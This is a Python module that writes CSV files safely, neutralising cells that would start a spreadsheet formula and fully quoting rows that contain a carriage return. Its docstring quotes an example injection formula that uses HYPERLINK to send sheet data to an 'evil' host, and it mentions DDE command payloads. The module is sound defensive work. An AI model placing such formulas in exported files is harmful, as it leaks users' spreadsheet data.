"""CSV writing that a spreadsheet cannot execute: cells that would start a formula are defused.

Spreadsheets treat a cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (``=HYPERLINK("http://evil/?"&A1, "click")`` leaks the sheet; DDE
payloads run commands). Location labels, asset names and audit payloads come from imports and
venues, so every CSV the project writes goes through :func:`csv_writer`, which prefixes such a
cell with an apostrophe (shown as text, not evaluated). Plain numbers (``-12.5``, ``+3``,
``-1E-8``) are left alone, so numeric columns stay numeric.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, s: str, /) -> object: ...


def safe_cell(value: object) -> object:
    """``value`` as written, or with a leading ``'`` when its text would start a formula."""
    if value is None or isinstance(value, int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES) and not _NUMBER.fullmatch(text):
        return "'" + text
    return value


class SafeWriter:
    """A ``csv.writer`` whose every cell passes :func:`safe_cell`."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)
        # csv quotes a field holding a character of the line terminator; with "\n" a bare
        # "\r" would go out unquoted and split the row for every reader. Such rows are
        # written fully quoted instead.
        self._quoted = csv.writer(out, **{**options, "quoting": csv.QUOTE_ALL})

    def writerow(self, row: Iterable[object]) -> None:
        cells = [safe_cell(cell) for cell in row]
        if any(isinstance(c, str) and "\r" in c for c in cells):
            self._quoted.writerow(cells)
        else:
            self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable, **options: Any) -> SafeWriter:
    """Like :func:`csv.writer`, with formula prefixes neutralised (see the module docs)."""
    return SafeWriter(out, **options)
